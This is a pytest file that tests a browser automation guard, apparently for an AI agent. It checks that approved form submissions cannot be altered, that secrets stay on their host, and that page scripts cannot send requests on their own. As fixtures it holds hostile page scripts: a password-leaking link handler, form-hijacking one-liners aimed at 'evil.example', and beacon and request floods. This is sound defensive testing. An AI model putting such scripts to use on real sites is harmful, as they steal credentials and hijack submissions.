"""What leaves is what was judged: the form, its fields, its target, and nothing in its place."""

from __future__ import annotations

import asyncio

import pytest

from policies.action import BrowserClick, BrowserSubmit, Control, EffectClass, FormField
from policies.errors import ActionFailed
from tests.tools.browser.conftest import EMAIL, HANDLE, Hand
from tests.tools.browser.site import Seen, Site
from tools.browser.guard import Guard
from tools.browser.session import Browser
from tools.errors import ToolError

pytestmark = pytest.mark.asyncio(loop_scope="session")

LOGIN = """<form method=post action=/login><input type=hidden name=csrf value={token}><label>User<input name=user></label>
<label>Password<input name=password type=password></label><button>Log in</button></form>"""
URL = "http://shop.example/"


def fields(*pairs: tuple[str, str]) -> tuple[FormField, ...]:
    return tuple(FormField(name=name, value=value) for name, value in pairs)


async def submit(hand: Hand, words: str, nth: int = 0) -> BrowserSubmit:
    action = await hand.do.resolve_click("r1", hand.ref(words, nth))
    assert isinstance(action, BrowserSubmit)
    return action


async def test_a_login_is_judged_by_names_and_sent_with_the_secret(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", LOGIN.format(token="abcdefghijklmnop0123")))
    await hand.fill('"User"', "clerk")
    await hand.fill('"Password"', "secret://shop", secrets=frozenset({"shop"}))
    action = await submit(hand, '"Log in"')
    assert action == BrowserSubmit(
        url=URL,
        control=Control(role="button", name="Log in"),
        target="http://shop.example/login",
        method="post",
        fields=fields(("csrf", "(page token)"), ("user", "clerk"), ("password", "secret://shop")),
        does="login",
    )
    assert "received" in (await hand.act(action)).text
    assert web.posted()[0].body.startswith("csrf=abcdefghijklmnop0123&user=clerk&password=made-up+pa%22ss")


async def test_a_secret_goes_to_no_other_host_and_into_no_address(hand: Hand, web: Site) -> None:
    elsewhere = LOGIN.format(token="").replace("action=/login", "action=http://bank.example/login")
    await hand.open(web.show("/", elsewhere))
    await hand.fill('"Password"', "secret://shop", secrets=frozenset({"shop"}))
    with pytest.raises(ToolError, match="another host"):
        await submit(hand, '"Log in"')
    copy = "<a id=a href=/>Help</a><script>oninput=e=>{a.href='/?'+encodeURIComponent(e.target.value)}</script>"
    await hand.open(web.show("/", LOGIN.format(token="") + copy))
    await hand.fill('"Password"', "secret://shop", secrets=frozenset({"shop"}))
    with pytest.raises(ToolError, match="another place"):
        await hand.do.resolve_click("r1", hand.ref('"Help"'))


async def test_a_form_in_a_shadow_root_is_a_form(hand: Hand, web: Site) -> None:
    script = f"h.attachShadow({{mode:'open'}}).innerHTML=`{POST}`"
    await hand.open(web.show("/", f"<div id=h></div><script>{script}</script>"))
    assert (await submit(hand, '"Go"')).fields == fields(("a", "1"))
    assert "received" in await hand.click('"Go"')


async def test_a_window_that_a_page_opens_by_itself_is_closed(hand: Hand, web: Site, browser: Browser) -> None:
    web.show("/popup", "popup")
    text = await hand.open(web.show("/", "first<script>open('/popup')</script>"))
    assert "first" in text and "note: a new window was closed" in text
    assert await hand.do.current("r1") == URL
    await hand.open("http://shop.example/popup")
    tab = browser.open_tab("r1")
    assert tab is not None and len(tab.context.pages) == 1


async def test_a_page_opened_again_has_the_form_that_was_approved(hand: Hand, web: Site, browser: Browser) -> None:
    web.show("/", LOGIN.format(token="abcdefghijklmnop0123"))
    await hand.open(URL)
    await hand.fill('"User"', "clerk")
    judged = await submit(hand, '"Log in"')
    await browser.close("r1")
    web.show("/", LOGIN.format(token="0123abcdefghijklmnop"))
    await hand.open(URL)
    with pytest.raises(ActionFailed, match="changed since"):
        await hand.act(judged)
    await hand.fill('"User"', "clerk")
    await hand.act(judged)
    assert [seen.body for seen in web.posted()] == ["csrf=0123abcdefghijklmnop&user=clerk&password="]


async def test_a_page_token_that_goes_elsewhere_is_a_field_like_any_other(hand: Hand, web: Site) -> None:
    page = "<form method=post action=http://bank.example/in><input type=hidden name=csrf value=abcdefghijklmnop0123><button>Go</button></form>"
    await hand.open(web.show("/", page))
    assert (await submit(hand, '"Go"')).fields == fields(("csrf", "abcdefghijklmnop0123"))


async def test_a_filter_only_reads(hand: Hand, web: Site) -> None:
    page = "<form action='/?old=1'><label>Days<input name=days></label><input type=hidden name=s value=中><button name=go value=1>Filter</button></form>"
    await hand.open(web.show("/", page))
    await hand.fill('"Days"', "7")
    action = await submit(hand, '"Filter"')
    assert (action.effect, action.target, action.does) == (EffectClass.READ, URL, "read")
    assert action.fields == fields(("days", "7"), ("s", "中"), ("go", "1"))
    await hand.act(action)
    assert web.seen[-1] == Seen("GET", "shop.example", "/?days=7&s=%E4%B8%AD&go=1")


ORDER = """<form method=post action=/order><input type=hidden name=id value=17><label>To<input name=to value={email}></label>
<label>Text<textarea name=text></textarea></label><select name=kind aria-label=Kind><option value=a>A<option value=b>B</select>
<input type=checkbox name=copy value=yes aria-label=Copy><input name=off value=x disabled>
<button name=do value=send>Send</button><button name=do value=save formaction=/draft formmethod=get>Save</button></form>"""


async def test_every_field_is_judged_as_it_will_be_sent(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", ORDER.format(email=EMAIL)))
    await hand.fill('"Text"', f"Dear {HANDLE},\nline two")
    await hand.fill('"Kind"', "B")
    await hand.fill('"Copy"', "true")
    action = await submit(hand, '"Send"')
    assert action.fields == fields(
        ("id", "17"),
        ("to", HANDLE),
        ("text", f"Dear {HANDLE},\nline two"),
        ("kind", "b"),
        ("copy", "yes"),
        ("do", "send"),
    )
    assert action.does == "submit" and action.effect is EffectClass.WRITE
    await hand.act(action)
    assert "text=Dear+wang%40example.com%2C%0D%0Aline+two&kind=b&copy=yes&do=send" in web.posted()[0].body


async def test_the_buttons_own_target_and_method_count(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", ORDER.format(email="")))
    action = await submit(hand, '"Save"')
    assert (action.target, action.method) == ("http://shop.example/draft", "get")


@pytest.mark.parametrize(
    ("form", "charset"),
    [
        ("<form method=post action=/in enctype=multipart/form-data>", "utf-8"),
        ("<form method=post action=/in accept-charset=gb18030>", "utf-8"),
        ("<form method=post action=/in>", "gb18030"),
    ],
)
async def test_other_encodings_of_a_form_are_compared_too(hand: Hand, web: Site, form: str, charset: str) -> None:
    page = f"<meta charset={charset}>{form}<textarea name='a\"名'>价格\n&=%</textarea><button>Go</button></form>"
    web.answer("/", 200, {"Content-Type": f"text/html; charset={charset}"}, page.encode(charset))
    await hand.open(URL)
    assert "received" in await hand.click('"Go"')
    assert len(web.posted()) == 1


async def test_a_field_alone_sends_its_form(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", "<form action=/find><input type=search name=q aria-label=Find></form>"))
    await hand.fill('"Find"', "x")
    await hand.click('"Find"')
    assert web.seen[-1].path == "/find?q=x"


async def test_a_form_in_a_frame_is_the_frames(hand: Hand, web: Site) -> None:
    web.show(
        "/frame",
        "<form method=post action=/pay-in><label>A<input name=a></label><button>Go</button></form>",
        "bank.example",
    )
    await hand.open(web.show("/", "<iframe src=http://bank.example/frame></iframe>"))
    await hand.fill('"A"', "1")
    action = await submit(hand, '"Go"')
    assert (action.url, action.does) == ("http://bank.example/frame", "pay")
    assert "received" in (await hand.act(action)).text
    assert [(s.host, s.body) for s in web.posted()] == [("bank.example", "a=1")]


@pytest.mark.parametrize(
    ("control", "does"),
    [
        ("<form method=post action=/orders/17/delete><button>Cancel</button></form>", "delete"),
        (
            "<form method=post action=/x><input type=hidden name=_method value=DELETE><button>OK</button></form>",
            "delete",
        ),
        ("<form method=post action=/x><button name=op value=removeItem>OK</button></form>", "delete"),
        ("<form method=post action=/x><button>删除订单</button></form>", "delete"),
        ("<form method=post action=/x><button>立即支付</button></form>", "pay"),
        ("<form action=/transfer><button>Go</button></form>", "pay"),
        ("<form method=post action=/x><button>Save</button></form>", "submit"),
    ],
)
async def test_words_raise_what_a_form_does(hand: Hand, web: Site, control: str, does: str) -> None:
    await hand.open(web.show("/", control))
    assert (await submit(hand, "button")).does == does


@pytest.mark.parametrize(
    ("control", "does"),
    [
        ("<button type=button>Fine</button>", "submit"),
        ("<button type=button>Delete</button>", "delete"),
        ("<div role=button tabindex=0>购买</div>", "pay"),
        ("<details><summary>More</summary>text</details>", "read"),
        ("<a href='#'>Pay now</a>", "pay"),
    ],
)
async def test_a_control_without_a_form_is_a_click(hand: Hand, web: Site, control: str, does: str) -> None:
    text = await hand.open(web.show("/", control))
    words = next(w for w in ("Fine", "Delete", "购买", "More", "Pay now") if w in text)
    action = await hand.do.resolve_click("r1", hand.ref(words))
    assert isinstance(action, BrowserClick) and (action.does, action.control.name) == (does, words)


async def test_a_click_shows_what_came_of_it(hand: Hand, web: Site) -> None:
    page = "<button onclick=\"fetch('/api',{method:'POST',body:'x'}).then(()=>o.textContent='saved')\">Save</button><p id=o>"
    await hand.open(web.show("/", page))
    assert "saved" in await hand.click('"Save"')
    assert web.posted() == [Seen("POST", "shop.example", "/api", "x")]


async def test_a_reading_click_may_change_nothing(hand: Hand, web: Site) -> None:
    page = "<details ontoggle=\"fetch('/api',{method:'POST'})\"><summary>More</summary>inside</details>"
    await hand.open(web.show("/", page))
    text = await hand.click('"More"')
    assert "inside" in text and "note: blocked: POST shop.example" in text and web.posted() == []


async def test_equal_controls_are_told_apart_by_their_row(hand: Hand, web: Site) -> None:
    rows = "".join(
        f"<tr><td>{n}<td>{c}<td><button type=button onclick=o.textContent={n}>Edit</button>" for n, c in _ROWS
    )
    await hand.open(web.show("/", f"<table>{rows}</table><p id=o>"))
    action = await hand.do.resolve_click("r1", hand.ref('"Edit"', 1))
    assert isinstance(action, BrowserClick) and action.control.name == f"Edit (1043 {HANDLE})"
    assert 'paragraph [ref=e14]: "1043"' in (await hand.act(action)).text


_ROWS = (("1042", "Chen"), ("1043", EMAIL))

POST = "<form method=post action=/good id=f><input name=a value=1><button id=b>Go</button></form>"
SWAPS = {
    "action at mousedown": "b.onmousedown=()=>f.action='/bad'",
    "action at click": "b.onclick=()=>f.action='/bad'",
    "action at submit": "f.onsubmit=()=>{f.action='/bad'}",
    "another host": "b.onclick=()=>f.action='http://bank.example/good'",
    "an unlisted host": "b.onclick=()=>f.action='http://evil.example/good'",
    "formaction": "b.onclick=()=>b.formAction='/bad'",
    "a value": "b.onclick=()=>f.a.value='2'",
    "a field more": "b.onclick=()=>f.insertAdjacentHTML('beforeend','<input name=z value=1>')",
    "form data": "let n=0;f.addEventListener('formdata',e=>{if(n++>2)e.formData.append('z','1')})",
    "method": "b.onclick=()=>f.method='get'",
    "sent by script": "f.onsubmit=e=>{e.preventDefault();fetch('/bad',{method:'POST',body:'a=1'})}",
    "a new window": "b.onclick=()=>{f.target='_blank';f.action='/bad'}",
    "moved away": "b.onclick=e=>{e.preventDefault();location='/bad?a=1'}",
    "another form": "f.onsubmit=e=>{e.preventDefault();let g=f.cloneNode(true);g.action='/bad';document.body.append(g);g.submit()}",
    "a beacon before": "b.onclick=()=>navigator.sendBeacon('/bad','a=1')",
    "twice": "f.onsubmit=()=>{setTimeout(()=>{f.action='/bad';f.submit()},0)}",
}


@pytest.mark.parametrize("swap", SWAPS.values(), ids=SWAPS.keys())
async def test_a_script_that_changes_the_form_when_pressed_sends_nothing_else(hand: Hand, web: Site, swap: str) -> None:
    await hand.open(web.show("/", f"{POST}<script>{swap}</script>"))
    action = await submit(hand, '"Go"')
    try:
        await hand.act(action)
    except ActionFailed as failed:
        assert web.posted() == [] or failed.may_have_acted
    assert set(web.posted()) <= {Seen("POST", "shop.example", "/good", "a=1")}
    assert not web.at("evil.example") and not any("/bad" in seen.path for seen in web.seen)


async def test_a_form_that_changed_after_it_was_judged_is_not_pressed(hand: Hand, web: Site) -> None:
    page = f"{POST}<label>C<input id=c oninput=\"f.a.value='2'\"></label>"
    await hand.open(web.show("/", page))
    action = await submit(hand, '"Go"')
    await hand.fill('"C"', "x")
    with pytest.raises(ActionFailed, match="changed since this was judged") as failed:
        await hand.act(action)
    assert not failed.value.may_have_acted and web.posted() == []


async def test_a_form_that_changes_right_before_it_is_pressed_is_not_pressed(hand: Hand, web: Site) -> None:
    third = "let n=0;f.addEventListener('formdata',e=>{if(++n===3)e.formData.append('z','1')})"
    await hand.open(web.show("/", f"{POST}<script>{third}</script>"))
    with pytest.raises(ActionFailed, match="changed since this was judged"):
        await hand.click('"Go"')
    assert web.posted() == []


async def test_a_form_that_is_not_valid_names_its_fields(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", "<form method=post><input name=to required aria-label=T><button>Go</button></form>"))
    with pytest.raises(ActionFailed, match="does not accept what is in: to") as failed:
        await hand.click('"Go"')
    assert not failed.value.may_have_acted and web.posted() == []


async def test_a_permitted_form_may_ask_whether_we_are_sure(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", POST.replace("<form", "<form onsubmit=\"return confirm('Sure?')\"")))
    assert "note: dialog confirm, accepted: 'Sure?'" in await hand.click('"Go"')
    assert len(web.posted()) == 1


async def test_a_form_may_answer_in_a_new_window(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", POST.replace("<form", "<form target=_blank")))
    text = await hand.click('"Go"')
    assert "url: http://shop.example/good" in text and "new window" in text
    assert await hand.do.current("r1") == "http://shop.example/good"


async def test_a_form_redirected_to_a_refused_place_shows_nothing(hand: Hand, web: Site) -> None:
    for status, to in ((303, "/forbidden"), (307, "http://bank.example/in"), (302, "http://evil.example/in")):
        web.move("/good", to, status)
        await hand.open(web.show("/", POST))
        text = await hand.click('"Go"')
        assert "note: blocked:" in text and "received" not in text
    assert [seen.path for seen in web.posted()] == ["/good"] * 3
    assert not web.at("evil.example") and not web.at("bank.example") and "/forbidden" not in [s.path for s in web.seen]


async def test_a_page_sends_no_form_by_itself(hand: Hand, web: Site) -> None:
    text = await hand.open(web.show("/", f"{POST}<script>f.submit()</script>"))
    assert "note: blocked: POST shop.example" in text and web.posted() == []


TRIES = """<script>
let rounds = 0;
setInterval(() => {
  for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) fetch('/api', {method}).catch(() => 0);
  navigator.sendBeacon('/beacon', 'x');
  const old = new XMLHttpRequest(); old.open('POST', '/xhr'); old.send('x');
  const form = document.createElement('form');
  form.method = 'post'; form.action = '/pushed'; form.target = 'inner';
  document.body.append(form); form.submit(); form.remove();
  fetch('/looked').then(() => { document.title = `rounds: ${++rounds}` });
}, 20);
</script><iframe name=inner></iframe>"""


async def test_a_page_changes_nothing_outside_a_permitted_act(hand: Hand, web: Site, browser: Browser) -> None:
    """Neither while it loads, nor later while nobody looks, and not after a form of it was sent either."""
    await hand.open(web.show("/", f"{POST}{TRIES}"))
    tab = browser.open_tab("r1")
    assert tab is not None
    await tab.page.wait_for_function("rounds > 3")
    assert {seen.method for seen in web.seen} == {"GET"}
    assert "/looked" in [seen.path for seen in web.seen]

    await hand.open(web.show("/", POST))
    await hand.click('"Go"')
    sent = len(web.seen)
    await tab.page.evaluate("fetch('/later', {method: 'POST'}).catch(() => 0)")
    assert [(seen.method, seen.path) for seen in web.seen[: sent + 1] if seen.method != "GET"] == [("POST", "/good")]


async def test_a_script_may_not_name_a_field_to_hide_the_form(hand: Hand, web: Site) -> None:
    names = "".join(
        f"<input type=hidden name={n} value=/x>" for n in ("action", "method", "submit", "elements", "checkValidity")
    )
    await hand.open(web.show("/", POST.replace("<button", f"{names}<button")))
    action = await submit(hand, '"Go"')
    assert action.target == "http://shop.example/good" and len(action.fields) == 6
    await hand.act(action)
    assert len(web.posted()) == 1


async def test_two_runs_share_neither_page_nor_cookies(hand: Hand, web: Site, browser: Browser) -> None:
    web.answer("/", 200, {"Set-Cookie": "session=made-up"}, b"<p>one")
    await hand.open(URL)
    await browser.tab("r2")
    try:
        assert not hand.do.has_page("r2")
        other = browser.open_tab("r2")
        assert other is not None and await other.context.cookies() == []
        web.show("/inner", "inner")
        await other.page.goto(web.show("/c", "c"))
        other.guard, other.target = Guard(free=True), "http://shop.example/c"  # for its own run only
        await asyncio.gather(
            hand.open(web.show("/a", "<iframe src=/inner></iframe><script>fetch('/b',{method:'POST'})</script>")),
            other.page.evaluate("fetch('/d', {method: 'POST'}).catch(() => 0)"),
        )
    finally:
        await browser.close("r2")
    assert "inner" in hand.text and [seen.path for seen in web.posted()] == ["/d"]


async def test_an_upload_is_refused(hand: Hand, web: Site) -> None:
    script = "d=new DataTransfer();d.items.add(new File(['x'],'x.txt'));f.u.files=d.files"
    page = f"<form id=f method=post enctype=multipart/form-data><input type=file name=u><button>Go</button></form><script>{script}</script>"
    await hand.open(web.show("/", page))
    with pytest.raises(ToolError, match="upload"):
        await hand.do.resolve_click("r1", hand.ref('"Go"'))
